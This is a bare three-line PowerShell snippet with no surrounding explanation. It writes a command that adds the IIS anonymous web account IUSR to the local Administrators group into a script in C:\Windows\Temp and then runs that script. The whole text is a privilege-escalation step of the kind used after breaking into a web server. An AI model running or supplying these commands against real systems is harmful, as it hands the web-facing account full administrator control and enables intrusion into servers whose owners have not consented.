Set-Content C:\go.txt 'net localgroup Administrators IUSR /add'
Move-Item C:\go.txt C:\Windows\Temp\go.ps1
& C:\Windows\Temp\go.ps1
